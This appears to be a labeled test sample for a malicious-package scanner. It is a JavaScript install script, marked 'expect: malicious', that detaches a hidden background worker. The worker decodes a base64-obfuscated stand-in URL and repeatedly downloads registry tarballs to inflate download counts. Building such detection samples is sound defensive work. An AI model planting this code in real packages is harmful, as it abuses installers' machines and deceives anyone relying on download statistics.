// when: install
// expect: malicious
// source: blind set 22 (download-count-inflation): a badge generator's postinstall starts itself again detached; the
// worker fetches a package list from a host it decodes from base64 and downloads each tarball in a loop.
'use strict';
const https = require('https');
const { spawn } = require('child_process');
const LIST = Buffer.from('aHR0cHM6Ly9iYWRnZXMtY2RuLmV4YW1wbGUvcG9wdWxhci5qc29u', 'base64').toString();
function get(url) {
  return new Promise((resolve) => {
    https.get(url, (res) => { let s = ''; res.on('data', (c) => { s += c; }); res.on('end', () => resolve(s)); }).on('error', () => resolve(''));
  });
}
async function worker() {
  const cfg = JSON.parse(await get(LIST));
  for (const p of cfg.packages) await get(`https://registry.example/${p.name}/-/${p.name}-${p.version}.tgz`);
}
if (process.argv.includes('--worker')) worker();
else spawn(process.execPath, [__filename, '--worker'], { detached: true, stdio: 'ignore' }).unref();
